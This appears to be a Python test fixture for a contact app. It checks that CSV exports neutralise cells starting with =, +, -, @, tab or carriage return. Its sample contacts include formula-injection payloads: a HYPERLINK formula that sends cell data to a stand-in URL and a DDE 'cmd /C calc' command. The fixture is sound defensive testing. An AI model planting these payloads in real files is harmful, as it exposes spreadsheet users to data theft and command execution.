"""Contacts whose fields a spreadsheet would run as formulas (issue 12 F4), shared by the
export tests of the API, the web pages and the CLI.

Each export must write these cells with a leading ``'`` (OWASP's rule for cells starting
with ``=``, ``+``, ``-``, ``@``, tab or carriage return) and leave every other cell as it is.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from sqlalchemy.orm import Session

from gatherly.contact.models import Contact
from gatherly.org.models import Team, User
from tests import factories as f

DOMAIN = "@evil.example"
HYPERLINK = '=HYPERLINK("http://x"&B2,"click")'

# first name, last name, company, email: as typed, and as the export must write them.
PEOPLE: list[dict[str, tuple[str, str]]] = [
    {
        "first_name": (HYPERLINK, "'" + HYPERLINK),
        "last_name": ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        "company": ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        "email": ("hyper" + DOMAIN, "hyper" + DOMAIN),
    },
    {
        "first_name": ("@Attacker", "'@Attacker"),
        "last_name": ("-2+3", "'-2+3"),
        "company": ("\t=1+1", "'\t=1+1"),
        "email": ("-dash" + DOMAIN, "'-dash" + DOMAIN),
    },
    {
        "first_name": ("+Plus", "'+Plus"),
        "last_name": ("\r=cr", "'\r=cr"),
        "company": ("Acme", "Acme"),
        "email": ("plus" + DOMAIN, "plus" + DOMAIN),
    },
    {  # harmless text, with the dangerous characters anywhere but first: unchanged
        "first_name": ("Anna-Lena", "Anna-Lena"),
        "last_name": ("O'Brien", "O'Brien"),
        "company": ("A=B @ C+D", "A=B @ C+D"),
        "email": ("anna" + DOMAIN, "anna" + DOMAIN),
    },
]


def add_people(db: Session, owner: User | Team) -> list[int]:
    """The dangerous contacts, owned by ``owner`` (flushed); their ids in ``PEOPLE`` order."""
    typed: list[dict[str, Any]] = [{k: v for k, (v, _) in p.items()} for p in PEOPLE]
    return [f.contact(db, owner, country="DE", **fields).id for fields in typed]


def add_hidden(db: Session, owner: User | Team) -> int:
    """A dangerous contact for a viewer who may not read ``owner``'s contacts."""
    hidden: dict[str, Any] = {
        "first_name": "=HIDDEN()",
        "last_name": "Hidden",
        "email": "hidden" + DOMAIN,
    }
    return f.contact(db, owner, country="DE", **hidden).id


def rows(text: str) -> list[dict[str, str]]:
    """The data rows of an export, by column."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def check(text: str, ids: list[int]) -> None:
    """The export holds exactly ``ids`` (the ``PEOPLE``, in id order), each cell neutralised
    where it must be and untouched otherwise; ids and BU ids stay numbers."""
    found = rows(text)
    assert [int(r["id"]) for r in found] == ids, found
    for row, person in zip(found, PEOPLE, strict=True):
        for column, (_typed, written) in person.items():
            assert row[column] == written, (column, row[column], written)
        assert row["country"] == "DE"
        assert row["owning_bu_id"].isdigit()
    header = text.splitlines()[0]
    assert header == "id,email,first_name,last_name,company,country,owning_bu_id"


def contact_names(db: Session, ids: list[int]) -> list[Any]:
    """The stored first names (to show the export changed the file, not the data)."""
    return [db.get(Contact, i).first_name for i in ids]  # type: ignore[union-attr]
